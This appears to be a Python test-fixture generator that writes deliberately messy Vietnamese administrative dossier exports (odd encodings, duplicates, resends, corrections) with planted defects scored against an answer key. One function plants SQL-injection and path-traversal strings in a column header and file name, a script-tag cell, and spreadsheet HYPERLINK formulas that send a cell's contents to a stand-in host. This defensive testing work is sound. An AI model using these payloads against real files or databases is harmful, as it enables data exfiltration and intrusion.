"""The small sample's exports of ``dvc/ho_so``: a style a month, overlaps, resends, corrections, hostile files."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from datetime import date, timedelta

import numpy as np
import polars as pl

from pipelines.sample.answer_key import DUPLICATE, FINDING, IGNORED, REFUSED
from pipelines.sample.context import CLOSING_MINUTE, Context, Month, footer, title
from pipelines.sample.files.defects import (
    DESTROYED,
    MISSING,
    MISSING_KEY,
    OUTSIDE,
    UNREADABLE,
    Fault,
    Junk,
    add_junk,
    eat_zeros,
    repeat_rows,
    set_cell,
    spoil,
)
from pipelines.sample.files.export import Export, Layout, Planted, Sheet
from pipelines.sample.files.text_mess import Spelling, damage
from pipelines.sample.procedures.dossiers import DAY
from pipelines.sample.procedures.states import last_change, state_at
from pipelines.sample.world import working_days as wd

FEED = "dvc/ho_so"
_KEY = "ma_ho_so"
_OVERLAP = timedelta(days=10)
_DATES = {"ngay_tiep_nhan", "ngay_hen_tra", "ngay_ket_thuc", "ngay_tra"}
_GROUPS = {
    "ngay_tiep_nhan": ("Ngày", "tiếp nhận"),
    "ngay_hen_tra": ("Ngày", "hẹn trả"),
    "ngay_ket_thuc": ("Ngày", "có kết quả"),
    "ngay_tra": ("Ngày", "trả kết quả"),
}


def _junk(row: int, serial: int) -> list[Junk]:
    """Four rows that belong in quarantine, each with its own fault, under keys that no dossier has."""
    strange = {_KEY: f"H02.13-250301-7{serial:03d}"}
    return [
        Junk("khoa_trong", row, {_KEY: None}, _KEY, MISSING_KEY),
        Junk("ngay_khong_doc_duoc", row + 1, {**strange, "ngay_tiep_nhan": "32/13/2025"}, "ngay_tiep_nhan", UNREADABLE),
        Junk("ngoai_danh_muc", row + 2, {_KEY: f"H02.13-250301-8{serial:03d}", "trang_thai": "Đang vận chuyển"},
             "trang_thai", OUTSIDE),
        Junk("dinh_danh_hong", row + 3, {_KEY: f"H02.13-250301-9{serial:03d}", "so_dinh_danh": "2.4E+10"},
             "so_dinh_danh", DESTROYED),
    ]  # fmt: skip


def _mended_later(sheet: Sheet, row: int) -> None:
    """A real dossier once without its agency, beside its whole row: quarantined, and cleared."""
    real = str(sheet.frame[_KEY][row])
    add_junk(sheet, [Junk("cach_ly_da_sua", row, {_KEY: real, "ma_don_vi": None}, "ma_don_vi", MISSING)], _KEY)


def _long_codes(frame: pl.DataFrame) -> pl.DataFrame:
    """Dossier codes of two-level agencies in the long spelling ``000.00.16.H02-…``."""
    return frame.with_columns(pl.col(_KEY).str.replace(r"^(H\d\d)\.(\d\d)-", "000.00.${2}.${1}-"))


class DossierFiles:
    """Writes the exports of one truth; ``shown_at`` remembers when each dossier was last exported."""

    def __init__(self, context: Context, truth: pl.DataFrame) -> None:
        self.context = context
        self.truth = truth
        self.shown_at = np.full(truth.height, -1, dtype=np.int64)
        self.styles: tuple[Callable[[Month], None], ...] = (
            self._workbook_of_two_sheets, self._damaged_unicode, self._tcvn3, self._vni, self._windows_1258,
            self._utf16, self._excel_dates, self._json_and_hostile, self._jsonl_and_refused, self._parquet_and_daily,
        )  # fmt: skip

    def write_all(self, corrected: pl.DataFrame) -> None:
        """All files; ``corrected`` is the truth after the late correction (same rows, same order)."""
        for index, month in enumerate(self.context.months):
            self.styles[index % len(self.styles)](month)
        self._late_old_export(self.context.months[0])
        self._update()
        self._correction(corrected)

    def _rows(self, first: date, last: date) -> pl.Series:
        day = self.truth["nhan_p"] // DAY
        return (day >= wd.day(first)) & (day <= wd.day(last))

    def _show(self, chosen: pl.Series, at: int) -> pl.DataFrame:
        self.shown_at[chosen.to_numpy()] = at
        return state_at(self.truth.filter(chosen), at)

    def _sheet(self, frame: pl.DataFrame, spelling: Spelling, layout: Layout | None = None, name: str = "") -> Sheet:
        return self.context.sheet(FEED, frame, spelling, layout, name)

    def _every(self, chosen: pl.Series, step: int, offset: int) -> pl.Series:
        """Of the chosen rows, every ``step``-th from ``offset`` on."""
        where = np.flatnonzero(chosen.to_numpy())[offset::step]
        mask = np.zeros(len(chosen), dtype=bool)
        mask[where] = True
        return pl.Series(mask)

    def _with_overlap(self, month: Month) -> tuple[date, pl.DataFrame]:
        first = max(month.first - _OVERLAP, self.context.months[0].first)
        return first, self._show(self._rows(first, month.last), month.closing)

    def _workbook_of_two_sheets(self, month: Month) -> None:
        """Cover, two sheets, merged two-row header, numbering row, running numbers, totals, one of them wrong."""
        middle = month.first + timedelta(days=14)
        halves = [(month.first, middle), (middle + timedelta(days=1), month.last)]
        sheets = []
        for number, (first, last) in enumerate(halves, 1):
            frame = self._show(self._rows(first, last), month.closing)
            stated = frame.height + (7 if number == 2 else 0)
            layout = Layout(
                title("DANH SÁCH HỒ SƠ TIẾP NHẬN", first, last, month.closing), _GROUPS, numbering=True,
                running_number=True, footer=footer(stated, "hồ sơ"),
            )  # fmt: skip
            sheet = self._sheet(frame, Spelling(numbers="phay"), layout, f"Nửa tháng {number}")
            if number == 2:
                sheet.planted.append(Planted("tong_ghi_sai", None, "", FINDING, "tong_ghi"))
            sheets.append(sheet)
        cover = ("BÁO CÁO TÌNH HÌNH GIẢI QUYẾT TTHC (dữ liệu tổng hợp)", "Kính gửi: Văn phòng UBND tỉnh")
        stated = sum(sheet.frame.height for sheet in sheets) + 7
        path = f"{month.first:%Y}/T{month.first:%m}/Danh sách hồ sơ.xlsx"
        self.context.write(Export(FEED, path, sheets, cover=cover, stated_total=stated))

    def _damaged_unicode(self, month: Month) -> None:
        """NFD, zero-width and no-break spaces, capitals, eth; sent a second time in another folder."""
        first, frame = self._with_overlap(month)
        spelling = Spelling(headers="khong_dau", dates="gach_ngang", numbers="day_du", booleans="so", codes="chuan")
        layout = Layout(title("DANH SÁCH HỒ SƠ", first, month.last, month.closing))
        sheet = self._sheet(_long_codes(frame), spelling, layout)
        for column, kind, every, start in (
            ("chu_ho_so", "nfd", 2, 0), ("chu_ho_so", "hoa", 5, 1), ("chu_ho_so", "eth", 7, 3),
            ("ten_tthc", "khong_ngat", 3, 0), (_KEY, "khong_rong", 11, 4), ("linh_vuc", "nfd", 3, 1),
            (_KEY, "khong_ngat", 13, 5), ("trang_thai", "khong_ngat", 17, 2),
        ):  # fmt: skip
            sheet.frame = damage(sheet.frame, column, kind, every, start)
        add_junk(sheet, _junk(6, 1), _KEY)
        path = f"{month.first:%Y}/T{month.first:%m}/hoso_thang{month.first.month}.csv"
        export = Export(FEED, path, [sheet], charset="utf-8-sig", delimiter=";", note="chữ NFD, ký tự ẩn, chữ Ð")
        self.context.write(export)
        copy = replace(sheet, planted=[Planted("tep_gui_lai", None, "", DUPLICATE)])
        after = month.last + timedelta(days=1)
        again = f"{after:%Y}/T{after:%m}/gửi lại/hoso_thang{month.first.month} (1).csv"
        self.context.write(replace(export, path=again, sheets=[copy], state="trung"))

    def _tcvn3(self, month: Month) -> None:
        first, frame = self._with_overlap(month)
        layout = Layout(
            title("DANH SÁCH HỒ SƠ", first, month.last, month.closing), footer=footer(frame.height + 4, "hồ sơ")
        )
        sheet = self._sheet(frame, Spelling(headers="bi_danh", booleans="chu", numbers="dong"), layout)
        add_junk(sheet, _junk(9, 2), _KEY)
        path = f"{month.first:%Y}/T{month.first:%m}/ho so ky {month.first.month}.csv"
        self.context.write(Export(FEED, path, [sheet], charset="tcvn3", stated_total=frame.height + 4))

    def _vni(self, month: Month) -> None:
        first, frame = self._with_overlap(month)
        layout = Layout(title("DANH SÁCH HỒ SƠ", first, month.last, month.closing))
        sheet = self._sheet(frame, Spelling(dates="gach_ngang", numbers="tron", booleans="x"), layout)
        eat_zeros(sheet, "so_dinh_danh", _KEY, every=25, start=3)
        path = f"{month.first:%Y}/T{month.first:%m}/hs_vni.csv"
        self.context.write(Export(FEED, path, [sheet], charset="vni", delimiter="\t"))

    def _windows_1258(self, month: Month) -> None:
        first, frame = self._with_overlap(month)
        layout = Layout(title("DANH SÁCH HỒ SƠ", first, month.last, month.closing), numbering=True, running_number=True)
        sheet = self._sheet(frame, Spelling(headers="hoa", codes="so", numbers="phay"), layout)
        spoil(sheet, 12, Fault("tien_khong_doc_duoc", "phi_le_phi", "thu sau", UNREADABLE), _KEY)
        spoil(sheet, 15, Fault("logic_khong_doc_duoc", "thanh_toan_truc_tuyen", "có lẽ", UNREADABLE), _KEY)
        path = f"{month.first:%Y}/T{month.first:%m}/hs_1258.csv"
        self.context.write(Export(FEED, path, [sheet], charset="cp1258", delimiter=";"))

    def _utf16(self, month: Month) -> None:
        first, frame = self._with_overlap(month)
        spelling = Spelling(headers="camel", dates="lien", numbers="tron", codes="so", booleans="chu")
        layout = Layout(title("DANH SÁCH HỒ SƠ", first, month.last, month.closing))
        sheet = self._sheet(_long_codes(frame), spelling, layout)
        add_junk(sheet, _junk(21, 3), _KEY)
        _mended_later(sheet, 40)
        repeat_rows(sheet, 5)
        path = f"{month.first:%Y}/T{month.first:%m}/hs_unicode.csv"
        self.context.write(Export(FEED, path, [sheet], charset="utf-16", delimiter="\t", repeats=5))

    def _excel_dates(self, month: Month) -> None:
        """Real date cells in one workbook, serial numbers in the other; identity numbers as numbers."""
        half = month.first + timedelta(days=15)
        for name, first, last, dates in (
            ("BC ngày 16.xlsx", month.first, half, "o_ngay"),
            ("BC cuối tháng.xlsx", half + timedelta(days=1), month.last, "so_excel"),
        ):
            frame = self._show(self._rows(first, last), month.closing)
            layout = Layout(title("BÁO CÁO HỒ SƠ", first, last, month.closing))
            sheet = self._sheet(frame, Spelling(dates=dates, numbers="tron", booleans="x"), layout)
            eat_zeros(sheet, "so_dinh_danh", _KEY, every=6, start=1)
            sheet.numbers = frozenset({"so_dinh_danh", "phi_le_phi"} | (_DATES if dates == "so_excel" else set()))
            self.context.write(Export(FEED, f"{month.first:%Y}/T{month.first:%m}/{name}", [sheet]))

    def _json_and_hostile(self, month: Month) -> None:
        chosen = self._rows(month.first, month.last)
        odd = self._every(chosen, 12, 0)
        spelling = Spelling(headers="camel", dates="iso", codes="so", typed=True)
        sheet = self._sheet(self._show(chosen & ~odd, month.closing), spelling)
        add_junk(sheet, _junk(3, 4), _KEY)
        path = f"api/ho_so_{month.first:%Y%m}.json"
        self.context.write(Export(FEED, path, [sheet], wrapped=True))
        self._hostile_csv(self._show(odd, month.closing), month)

    def _hostile_csv(self, frame: pl.DataFrame, month: Month) -> None:
        spelling = Spelling(headers="khong_dau", codes="so", booleans="so", numbers="day_du", dates="iso")
        strange = '"); DROP TABLE tep; --'
        frame = frame.with_columns(pl.lit("<script>alert(1)</script>").alias(strange))
        layout = Layout(title("DANH SÁCH HỒ SƠ", month.first, month.last, month.closing))
        sheet = self._sheet(frame, spelling, layout)
        for row in range(0, frame.height, 3):
            set_cell(sheet, row, "linh_vuc", '=HYPERLINK("http://vi-du.invalid/?q="&A1,"Bấm")')
        for row in range(1, frame.height, 4):
            set_cell(sheet, row, "ten_don_vi", 'Dòng một\nDòng hai, có dấu phẩy; và "ngoặc kép"')
        sheet.planted.append(Planted("cot_la", None, strange, FINDING, "cot_la"))
        sheet.planted.append(Planted("o_cong_thuc", 0, "linh_vuc", IGNORED))
        path = "x'; DROP TABLE tep;..\\..\\ --.csv"
        self.context.write(Export(FEED, path, [sheet], delimiter=";", note="tên tệp, tiêu đề và ô có mã độc giả"))

    def _jsonl_and_refused(self, month: Month) -> None:
        chosen = self._rows(month.first, month.last)
        cut, formula = self._every(chosen, 9, 0), self._every(chosen, 9, 4)
        spelling = Spelling(headers="chuan", dates="iso", codes="chuan", typed=True)
        sheet = self._sheet(self._show(chosen & ~cut & ~formula, month.closing), spelling)
        self.context.write(Export(FEED, f"api/ho_so_{month.first:%Y%m}.jsonl", [sheet]))
        layout = Layout(title("DANH SÁCH HỒ SƠ", month.first, month.last, month.closing))
        whole = self._sheet(self._show(cut, month.closing), Spelling(), layout)
        folder = f"{month.first:%Y}/T{month.first:%m}"
        broken = replace(whole, planted=[Planted("tep_hong", None, "", REFUSED)])
        self.context.write(Export(FEED, f"{folder}/Hồ sơ Một cửa.xlsx", [broken], cut=0.6, state="tu_choi"))
        self.context.write(Export(FEED, f"{folder}/Hồ sơ Một cửa (1).xlsx", [whole], note="gửi lại tệp hỏng"))
        cells = self._sheet(self._show(formula, month.closing), Spelling(headers="bi_danh"), layout)
        for row in range(0, cells.frame.height, 2):
            set_cell(cells, row, "linh_vuc", '=HYPERLINK("http://vi-du.invalid/","Bấm vào đây")')
        cells.formulas = frozenset({"linh_vuc"})
        cells.planted.append(Planted("o_cong_thuc", 0, "linh_vuc", IGNORED))
        self.context.write(Export(FEED, f"{folder}/công thức.xlsx", [cells]))

    def _parquet_and_daily(self, month: Month) -> None:
        """Cumulative exports of the 10th and 20th, then the month as Parquet; a file without a required column."""
        for day in (10, 20):
            last = month.first.replace(day=day)
            at = wd.day(last) * DAY + CLOSING_MINUTE
            frame = self._show(self._rows(month.first, last), at)
            layout = Layout(title("LŨY KẾ HỒ SƠ TRONG THÁNG", month.first, last, at))
            sheet = self._sheet(frame, Spelling(headers="bi_danh", numbers="dong"), layout)
            path = f"{month.first:%Y}/T{month.first:%m}/lũy kế đến {day}.csv"
            self.context.write(Export(FEED, path, [sheet], delimiter="\t"))
        chosen = self._rows(month.first, month.last)
        short = self._every(chosen, 14, 2)
        spelling = Spelling(headers="chuan", dates="iso", codes="chuan", typed=True)
        sheet = self._sheet(self._show(chosen & ~short, month.closing), spelling)
        self.context.write(Export(FEED, f"api/ho_so_{month.first:%Y%m}.parquet", [sheet]))
        layout = Layout(title("DANH SÁCH HỒ SƠ", month.first, month.last, month.closing))
        whole = self._sheet(self._show(short, month.closing), Spelling(headers="khong_dau"), layout)
        at = whole.frame.columns.index("trang_thai")
        lacking = Sheet(
            whole.frame.drop("trang_thai"), whole.headers[:at] + whole.headers[at + 1 :], layout=layout,
            planted=[Planted("thieu_cot_bat_buoc", None, "trang_thai", REFUSED)],
        )  # fmt: skip
        folder = f"{month.first:%Y}/T{month.first:%m}"
        self.context.write(Export(FEED, f"{folder}/ho so cap huyen.csv", [lacking], state="tu_choi"))
        self.context.write(Export(FEED, f"{folder}/ho so cap huyen (1).csv", [whole], note="gửi lại có đủ cột"))

    def _late_old_export(self, month: Month) -> None:
        """An export of the first half of the first month that arrives long after newer states."""
        last = month.first + timedelta(days=13)
        at = wd.day(last) * DAY + CLOSING_MINUTE
        frame = state_at(self.truth.filter(self._rows(month.first, last)), at)
        sheet = self._sheet(
            frame, Spelling(headers="camel", dates="iso", booleans="chu", codes="chuan", numbers="tron")
        )
        self.context.write(
            Export(FEED, f"đến muộn/ho_so_{last:%Y%m%d}.csv", [sheet], note="trạng thái cũ, không được đè")
        )

    def _update(self) -> None:
        """Newest states of every dossier that moved on since its last export."""
        closing = self.context.closing
        moved = pl.Series(last_change(self.truth, closing).to_numpy() > self.shown_at)
        frame = self._show(moved, closing)
        first = self.context.months[0].first
        layout = Layout(
            title("CẬP NHẬT TRẠNG THÁI HỒ SƠ", first, self.context.as_of, closing + 10),
            footer=footer(frame.height, "hồ sơ"),
        )
        sheet = self._sheet(frame, Spelling(numbers="day_du"), layout)
        path = f"{self.context.as_of:%Y}/cập nhật trạng thái.csv"
        self.context.write(Export(FEED, path, [sheet], charset="utf-8-sig", delimiter=";", stated_total=frame.height))

    def _correction(self, corrected: pl.DataFrame) -> None:
        """A late correction of dossiers of an earlier quarter."""
        changed = pl.Series((corrected["hen_p"] != self.truth["hen_p"]).to_numpy())
        frame = state_at(corrected.filter(changed), self.context.closing)
        layout = Layout(title("ĐÍNH CHÍNH HỒ SƠ QUÝ TRƯỚC", minute=self.context.closing + 30))
        sheet = self._sheet(frame, Spelling(), layout)
        self.context.write(Export(FEED, f"{self.context.as_of:%Y}/đính chính quý trước.xlsx", [sheet]))
